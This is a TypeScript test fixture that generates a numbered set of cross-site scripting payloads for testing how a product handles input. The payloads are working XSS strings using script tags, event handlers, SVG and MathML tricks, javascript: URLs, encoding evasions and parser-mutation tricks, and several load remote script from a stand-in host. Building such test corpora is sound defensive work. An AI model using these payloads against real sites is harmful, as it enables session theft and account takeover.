/** A host that the product never contacts. */
export const MARKER_HOST = 'xss.example';

/** The call that every payload tries to make, with its number. */
const run = (nth: number): string => `__xss(${nth})`;

/** In payloads, `RUN` stands for that call, `HOST` for the marker host and `BASE64` for a page that makes the call. */
const CLASSES: Readonly<Record<string, readonly string[]>> = {
  'elements of script': [
    '<script>RUN</script>',
    '<ScRiPt/x>RUN</sCrIpT >',
    '<script src=//HOST/a.js></script>',
    '<script type=module>import "//HOST/m.js"</script>',
    '<script>RUN//',
  ],
  'handlers of events': [
    '<img src=x onerror=RUN>',
    '<img/src="x"/onerror="RUN">',
    '<body onload=RUN>',
    '<details open ontoggle=RUN>',
    '<input autofocus onfocus=RUN>',
    '<video><source onerror=RUN></video>',
    '<iframe onload=RUN></iframe>',
    '<p style="animation:a 1s" onanimationstart=RUN>',
  ],
  'other namespaces': [
    '<svg onload=RUN>',
    '<svg><script>RUN</script></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<math><mtext></p><img src=x onerror=RUN></mtext></math>',
    '<math href="javascript:RUN">x</math>',
  ],
  'addresses that do something': [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'java\tscript:RUN',
    '\u0001javascript:RUN',
    'javascript://%0ARUN',
    'data:text/html,<script>top.RUN</script>',
    'data:text/html;base64,BASE64',
    'vbscript:RUN',
  ],
  'ends of what it stands in': [
    '</script><script>RUN</script>',
    '<!--<script></script><img src=x onerror=RUN>',
    '</title></head><script>RUN</script>',
    '</textarea></select><img src=x onerror=RUN>',
    '</style></noscript><img src=x onerror=RUN>',
    '--><script>RUN</script>',
    ']]><script>RUN</script>',
    '"><script>RUN</script>',
    "'><img src=x onerror=RUN>",
    '" autofocus tabindex=1 onfocus="RUN',
    "' onmouseover='RUN",
    '` onerror=RUN x=`',
  ],
  'ends of a string or a template': [
    '"}]</script><script>RUN</script>',
    '\u2028RUN//',
    '";RUN;"',
    '\\";RUN//',
    '$' + '{RUN}',
    "{{constructor.constructor('RUN')()}}",
  ],
  'other spellings': [
    '&lt;script&gt;RUN&lt;/script&gt;',
    '&#60;img src=x onerror=RUN&#62;',
    '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
    '%3Cscript%3ERUN%3C/script%3E',
    '＜script＞RUN＜/script＞',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '<scr\0ipt>RUN</scr\0ipt>',
    '\ud800<script>RUN</script>',
    '\u202e<script>RUN</script>\u202c<scr\u200bipt>RUN</scr\u200bipt>',
    `${'A'.repeat(190)}<img src=x onerror=RUN>`,
  ],
  'what is mended into something else': [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  ],
  'pages in pages, and their addresses': [
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<base href=//HOST/><meta http-equiv=refresh content="0;url=//HOST/r">',
    '<object data="javascript:RUN"></object><embed src=//HOST/e>',
    '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  ],
  'styles and forms': [
    '<style>@import "//HOST/c.css";</style><link rel=stylesheet href=//HOST/l.css>',
    '<p style="background:url(//HOST/b)">',
    '<form action=//HOST/f><input type=image src=//HOST/i formaction=javascript:RUN>',
  ],
  'writing that becomes markup': ['[a](javascript:RUN)', '![a](x"onerror="RUN)'],
};

export interface Payload {
  readonly nth: number;
  readonly text: string;
  /** Represents others in a quick run. */
  readonly inQuickRun: boolean;
}

const base64 = (nth: number): string =>
  Buffer.from(`<script>top.${run(nth)}</script>`).toString('base64');

const written = (text: string, nth: number): string =>
  text
    .replaceAll('RUN', run(nth))
    .replaceAll('HOST', MARKER_HOST)
    .replaceAll('BASE64', base64(nth));

/** All payloads, numbered from one. */
export const PAYLOADS: readonly Payload[] = Object.values(CLASSES)
  .flatMap((texts, kind) =>
    texts.map((text, index) => ({ text, inQuickRun: (kind % 4) + index === 0 })),
  )
  .map(({ text, inQuickRun }, index) => ({
    nth: index + 1,
    text: written(text, index + 1),
    inQuickRun,
  }));

/**
 * Returns the payload with a suffix that identifies the field. The suffix is a comment, so that the payload still works
 * in the middle of an event handler.
 */
export const inField = ({ nth, text }: Payload, field: string): string =>
  `${text} //${field}-${nth}`;

/** Returns the text as a database can store it: without NUL and lone surrogates. */
export const storable = (text: string): string => text.replace(/\0|\p{Cs}/gu, '');
